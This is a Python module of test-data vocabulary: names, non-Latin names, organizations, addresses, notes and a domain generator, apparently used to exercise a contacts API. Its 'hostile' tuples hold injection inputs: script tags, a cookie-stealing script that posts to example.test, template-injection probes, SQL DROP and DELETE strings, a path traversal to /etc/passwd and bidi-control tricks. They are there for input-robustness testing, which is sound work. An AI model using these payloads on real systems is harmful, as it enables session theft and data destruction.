"""The words in names of people and organizations. All are invented or common; `slug` returns the form in an e-mail address."""

# ruff: noqa: RUF001, SIM905 (look-alike letters are the point here, and one line of words reads better than a list)

from __future__ import annotations

import unicodedata
from dataclasses import dataclass
from functools import cache
from itertools import product

_UNDECOMPOSED = str.maketrans({"ł": "l", "Ł": "L", "ø": "o", "Ø": "O", "ß": "ss", "æ": "ae", "ı": "i", "đ": "d"})

FIRST_NAMES = (
    "Ada Adrian Agnes Aisha Alan Alba Alejandro Alice Amara Amélie Anders Andrea Anika Anton Ariel Arjun Astrid Aurora "
    "Beatriz Benjamin Bianca Björn Bruno Camila Carlos Carmen Cécile Chiara Chloé Clara Daan Dagny Daniela David Dina "
    "Dmitri Edith Eduardo Elena Élodie Emeka Emil Emma Enzo Erik Esther Eva Fatima Felix Fiona Florian François Freya "
    "Gabriela George Gisela Grace Gustav Hana Hannah Harold Hassan Heidi Helena Hugo Ida Ines Ingrid Isaac Ivana Jack "
    "James Jana Javier Joana Johan José Julia Kamal Karin Katarzyna Kofi Lars Laura Leila Lena Leo Liam Linnea Lucía "
    "Łukasz Magnus Maja Manuel Marie Marta Mateus Maya Miguel Mila Mohamed Nadia Nils Nina Noah Nora Olga Oscar Otto "
    "Paula Pedro Petra Priya Quentin Rafael Ravi Rita Rosa Rui Ruth Samir Sara Sébastien Selma Sofia Søren Tara Theo "
    "Thomas Tomás Ulrike Vera Victor Walter Wanda Xavier Yara Yusuf Zainab Zoé"
).split()

LAST_NAMES = (
    "Abbott Adeyemi Aguilar Ahmed Almeida Andersen Araújo Bakker Baker Banerjee Barros Becker Benítez Berg Bianchi "
    "Blanc Boateng Brandt Brown Byrne Carter Castro Chen Clarke Conti Costa Cruz Dahl D'Angelo Das Davies de Vries "
    "Diallo Dubois Durand Eriksen Evans Fernández Ferrari Fischer Fletcher Fontaine Foster Fournier Garcia Gomes Grant "
    "Green Grünwald Haddad Hansen Harris Hart Hernández Hill Hoffmann Horvat Hughes Ibrahim Ivanov Jansen Jensen "
    "Johansson Jones Kaczmarek Kaya Keller Khan Kim King Klein Kowalski Krause Kumar Lambert Larsen Lee Lefèvre Lewis "
    "Lindqvist López Lund Mäkinen Marín Martin Mbeki Meyer Miller Molina Moreau Morris Müller Murphy Nakamura Navarro "
    "Nguyen Nielsen Novák Nowak O'Brien Okafor Olsen Ortega Ozturk Papadopoulos Park Patel Pérez Petersen Popescu Ramos "
    "Reyes Ricci Richter Rivera Robinson Romero Rossi Roy Ruiz Russo Sala Santos Schmidt Schneider Sharma Silva Singh "
    "Skovgaard Smith Sørensen Souza Svensson Szabó Tanaka Taylor Thompson Torres Tóth Turner Vargas Vidal Vogel Wagner "
    "Walker Walsh Weber White Wilson Wójcik Wright Yilmaz Young Zhang Zimmermann"
).replace("de Vries", "DeVries").split()  # fmt: skip

# (first, last, slug): a name, and how its owner writes it in an address.
NON_LATIN_NAMES = (
    ("Юлия", "Иванова", "yulia.ivanova"),
    ("Сергей", "Кузнецов", "s.kuznetsov"),
    ("Олена", "Шевченко", "olena.shevchenko"),
    ("Νίκος", "Παπαδόπουλος", "nikos.pap"),
    ("Ελένη", "Γεωργίου", "eleni.g"),
    ("محمد", "الأحمد", "m.alahmad"),
    ("فاطمة", "حسن", "fatima.hassan"),
    ("נועה", "כהן", "noa.cohen"),
    ("伟", "王", "wei.wang"),
    ("秀英", "李", "xiuying.li"),
    ("太郎", "山田", "taro.yamada"),
    ("さくら", "佐藤", "sakura.sato"),
    ("민준", "김", "minjun.kim"),
    ("สมชาย", "ใจดี", "somchai.j"),
    ("अनन्या", "शर्मा", "ananya.sharma"),
    ("தமிழ்", "செல்வன்", "tamil.s"),
    ("გიორგი", "ბერიძე", "giorgi.b"),
    ("Արամ", "Պետրոսյան", "aram.p"),
)

# What people really manage to type or paste into a name field; all of it valid UTF-8 that an API accepts.
HOSTILE_NAMES = (
    ("<script>alert(1)</script>", "Doe"),
    ('"><img src=x onerror=alert(1)>', "O'Neil"),
    ("{{7*7}}", "${7*7}"),
    ("Robert'); DROP TABLE persons;--", "Tables"),
    ("=HYPERLINK(\"http://example.test\",\"x\")", "Sheet"),
    ("\u202eesreveR", "\u202cWriter"),
    ("Zero\u200bWidth\u200d", "Joi\u2060ner\ufeff"),
    ("👩🏽‍🚀 Emoji", "🦄🇧🇷"),
    ("Z̸͎̈a̶l̵g̷o̶", "T̴e̷x̸t̵"),
    ("e\u0301clair", "A\u030angstro\u0308m"),
    ("  spaced\u00a0out ", "\tTabbed"),
    ("null", "undefined"),
    ("%s %d %n", "../../etc/passwd"),
    ("Line\nBreak", "Carriage\r\nReturn"),
    ("L" + "o" * 180 + "ng", "Name" * 16),
    ("True", "0"),
    ("Back\\slash", "Quo\"te"),
    ("𝒻𝒶𝓃𝒸𝓎", "ＦＵＬＬＷＩＤＴＨ"),
)  # fmt: skip

MAIL_PROVIDERS = ("gmail.com", "outlook.com", "yahoo.com", "proton.me", "icloud.com", "web.de", "orange.fr", "qq.com")

DOMAIN_HEADS = (
    "amber anchor apex arbor aster atlas aurora azure basalt beacon birch bluefin boreal bright canyon cedar cinder "
    "cirrus cobalt copper coral crest delta drift dune echo elm ember falcon fern fjord flint forge frost gale garnet "
    "glacier granite grove harbor haven hazel helio heron indigo iron ivory jade juniper kestrel lagoon lark laurel "
    "linden lumen maple marble meadow meridian mesa mint moss nimbus nova oak onyx opal orbit osprey pebble pine polar "
    "prism quartz quill raven reef ridge river rowan saffron sage sierra silver slate solar spruce summit terra thistle "
    "tidal timber topaz umber vale velvet violet willow zenith"
).split()
DOMAIN_TAILS = (
    "base bridge craft desk field flow foundry gate grid ground house labs lane light line link loft mark mill path "
    "peak point port press proof reach road root scale shore side sight source spark stack stone stream path thread "
    "tower trade vault view wave way works yard"
).split()
TOP_LEVELS = ("com", "com", "com", "io", "net", "org", "de", "fr", "co.uk", "com.br", "co.jp", "es", "nl", "se", "dev")
SECTORS = (
    "Analytics Logistics Software Foods Energy Robotics Health Media Consulting Textiles Capital Insurance Biotech "
    "Packaging Travel Education Security Design Telecom Motors"
).split()
LEGAL_FORMS = ("", "Inc.", "Ltd", "GmbH", "S.A.", "SARL", "OÜ", "AB", "B.V.", "LLC", "Ltda.", "K.K.", "S.p.A.", "a.s.")
NON_LATIN_ORGANIZATIONS = (
    "ООО «Северный ветер»",
    "株式会社さくら製作所",
    "北京晨光科技有限公司",
    "شركة النور للتجارة",
    "한빛전자 주식회사",
    "Ελληνικά Δίκτυα Α.Ε.",
    "הדקל בע״מ",
    "भारत उद्योग",
)
HOSTILE_ORGANIZATIONS = (
    "<b>Bold</b> & Sons <script>alert('org')</script>",
    "{{config.items()}} Holdings",
    "\u202eetaroproC",
    "Smith, Jones; \"Quoted\" | Pipe",
    "Zero\u200bWidth Trading",
    "🏢🏭 Emoji Works",
    "Very " + "long " * 48 + "name",
    "' OR '1'='1",
)  # fmt: skip

# (country, region, locality, postal code)
PLACES = (
    ("Estonia", "Harju maakond", "Tallinn", "10616"),
    ("Germany", "Bayern", "München", "80331"),
    ("Germany", "Berlin", "Berlin", "10115"),
    ("France", "Île-de-France", "Paris", "75002"),
    ("Spain", "Catalunya", "Barcelona", "08002"),
    ("Portugal", "Lisboa", "Lisboa", "1100-148"),
    ("Brazil", "São Paulo", "São Paulo", "01310-100"),
    ("United Kingdom", "England", "Manchester", "M1 1AE"),
    ("Ireland", "Leinster", "Dublin", "D02 X285"),
    ("United States", "California", "Oakland", "94607"),
    ("United States", "New York", "Brooklyn", "11201"),
    ("Canada", "Québec", "Montréal", "H2Y 1C6"),
    ("Japan", "東京都", "渋谷区", "150-0002"),
    ("India", "Karnataka", "Bengaluru", "560001"),
    ("Australia", "Victoria", "Melbourne", "3000"),
    ("Poland", "Mazowieckie", "Warszawa", "00-001"),
)
STREETS = ("Harbour Street", "Rue des Lilas", "Hauptstraße", "Calle Mayor", "Mustamäe tee", "Elm Avenue", "Via Roma")

# (street, house number, place)
STREET_PLACES = tuple((street, str(3 + 7 * n), place) for n, (street, place) in enumerate(product(STREETS, PLACES)))

SENTENCES = (
    "Met at the spring trade fair and asked for a follow-up call.",
    "Prefers e-mail; never calls back before noon.",
    "Renewal is due at the end of the quarter, budget not yet confirmed.",
    "Introduced by a partner; wants references from the same sector.",
    "Evaluating two alternatives, decision expected within a month.",
    "Technical contact only, the purchase is decided by the head office.",
    "Asked for the security questionnaire and the data processing agreement.",
    "Zufrieden mit dem Pilotprojekt, möchte die Laufzeit verlängern.",
    "A demandé un devis pour vingt postes supplémentaires.",
    "Line one of a note\nline two of the same note\twith a tab.",
)
HOSTILE_TEXTS = (
    "<script>document.location='http://example.test/?c='+document.cookie</script>",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "\u202eright to left\u202c and \u200bzero width\u200d",
    "🦄" * 40,
    "'; DELETE FROM organizations WHERE '1'='1",
    "long " * 12_000,  # 60 000 characters; a text field holds 65 000
)
SHORT_TEXTS = (
    "Gold",
    "Silver",
    "Bronze",
    "Partner",
    "Trial",
    "Reseller",
    "Señor",
    "Größe L",
    "Inbound form",
    "Wave 3",
    "<i>it</i>",
    "00123",
    "1e5",
    "N/A",
    " ",
    "no",
)


@dataclass(frozen=True, slots=True)
class Name:
    """One name, ready to be put between the quotes of a JSON string, and its slug."""

    first: str
    last: str
    slug: str


@cache
def slug(text: str) -> str:
    """Reduce a Latin name to characters of an e-mail address: `D'Angelo` → `dangelo`."""
    plain = unicodedata.normalize("NFKD", text.translate(_UNDECOMPOSED)).encode("ascii", "ignore").decode()
    return "".join(letter for letter in plain.lower() if letter.isalnum())


def domain(organization_id: int) -> str:
    """Return the internet domain of an organization; it is unique because it contains the id."""
    mixed = organization_id * 2_654_435_761 % 4_294_967_296
    head = DOMAIN_HEADS[mixed % len(DOMAIN_HEADS)]
    tail = DOMAIN_TAILS[mixed // 128 % len(DOMAIN_TAILS)]
    return f"{head}{tail}-{organization_id}.{TOP_LEVELS[mixed // 8192 % len(TOP_LEVELS)]}"
